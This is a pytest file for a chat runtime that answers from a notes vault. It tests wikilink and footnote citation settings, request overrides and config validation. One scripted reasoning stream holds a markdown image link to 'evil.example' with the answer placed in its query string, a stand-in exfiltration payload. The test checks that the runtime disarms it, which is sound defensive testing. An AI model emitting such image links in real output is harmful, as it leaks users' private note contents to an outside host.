"""How answers cite is a setting, which a request may override; a model that only quotes is not checked for it."""

from __future__ import annotations

from collections.abc import AsyncGenerator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2
import pytest

from sidecar.chat import ChatRequest
from sidecar.config import Config, load_config
from sidecar.errors import ConfigError
from sidecar.inference.model import Completion, Delta
from sidecar.runtime.models import ChatTarget
from sidecar.runtime.runtime import open_runtime
from tests.api.responses.test_file_search import serving

pytestmark = pytest.mark.anyio

QUESTION = [{"role": "user", "content": "What did the boiler repair cost?"}]


@dataclass
class Scripted:
    """Thinks aloud, then answers with one citation and a quotation that no note has."""

    generative: bool = True
    name: str = "scripted"
    on_this_machine: bool = True

    async def context_length(self) -> int:
        return 8192

    async def count_tokens(self, text: str) -> int:
        return len(text) // 4

    async def stream(self, completion: Completion) -> AsyncGenerator[Delta, None]:
        yield Delta(reasoning="Hm ![x](https://evil.example/?q=")
        yield Delta(reasoning="240) so")
        yield Delta(content='It cost 240 [[Boiler]], "and pigs fly at night".')
        yield Delta(finish_reason="stop")

    async def aclose(self) -> None: ...


def config(folder: Path, **more: Any) -> Config:
    vault = folder / "Notes"
    vault.mkdir()
    (vault / "Boiler.md").write_text("The boiler repair cost 240 euros.\n", encoding="utf-8")
    return Config(vaults=(vault,), data_dir=folder / "data", embedding_model="none", auth=False, **more)


async def said(settings: Config, *, generative: bool = True, **request: Any) -> tuple[str, str]:
    """What is answered and what is thought."""
    async with open_runtime(settings) as runtime:
        (vault,) = runtime.vaults.values()
        await vault.index(accept_removals=False, measure=False)
        target = ChatTarget(id="vault", model=Scripted(generative=generative), vault=vault)
        deltas = [delta async for delta in runtime.answer(target, ChatRequest(messages=QUESTION, **request))]
    return "".join(delta.content for delta in deltas), "".join(delta.reasoning for delta in deltas)


async def test_answers_cite_with_wikilinks_and_with_footnotes_when_so_set_or_asked(tmp_path: Path) -> None:
    wikilinks = "It cost 240 [[Boiler]], and pigs fly at night."
    footnotes = "It cost 240 [^1], and pigs fly at night.\n\n[^1]: [[Boiler]]"
    cases: tuple[tuple[dict[str, Any], dict[str, Any], str], ...] = (
        ({}, {}, wikilinks),
        ({"citations": "footnotes"}, {}, footnotes),
        ({}, {"citations": "footnotes"}, footnotes),
        ({"citations": "footnotes"}, {"citations": "wikilinks"}, wikilinks),
    )
    for number, (settings, request, expected) in enumerate(cases):
        folder = tmp_path / str(number)
        folder.mkdir()
        assert (await said(config(folder, **settings), **request))[0] == expected


async def test_a_thought_is_made_harmless_before_the_answer_begins(tmp_path: Path) -> None:
    assert (await said(config(tmp_path)))[1] == "Hm (x) so"


async def test_a_model_that_only_quotes_keeps_its_quotation_marks(tmp_path: Path) -> None:
    assert '"and pigs fly at night"' in (await said(config(tmp_path), generative=False))[0]


@pytest.mark.parametrize("route", ["chat/completions", "responses"])
async def test_a_request_asks_for_footnotes_in_its_vault_field(tmp_path: Path, route: str) -> None:
    async with open_runtime(config(tmp_path)) as runtime, serving(runtime) as client:
        (vault,) = runtime.vaults.values()
        await vault.index(accept_removals=False, measure=False)
        asked = {"messages": QUESTION} if "chat" in route else {"input": QUESTION[0]["content"]}
        right = await post(client, route, {**asked, "model": "vault", "vault": {"citations": "footnotes"}})
        assert "[^1]: [[Boiler]]" in right.text
        wrong = await post(client, route, {**asked, "model": "vault", "vault": {"citations": "harvard"}})
        assert wrong.status_code == 400


async def post(client: httpx2.AsyncClient, route: str, body: dict[str, Any]) -> httpx2.Response:
    return await client.post(f"/{route}", json=body)


def test_the_setting_is_read_and_checked(tmp_path: Path) -> None:
    file = tmp_path / "config.toml"
    file.write_text("citations = 'Footnotes'", encoding="utf-8")
    assert load_config({}, config_file=file, environ={}).citations == "footnotes"
    with pytest.raises(ConfigError, match="wikilinks or footnotes"):
        load_config({"citations": "harvard"}, config_file=file, environ={})
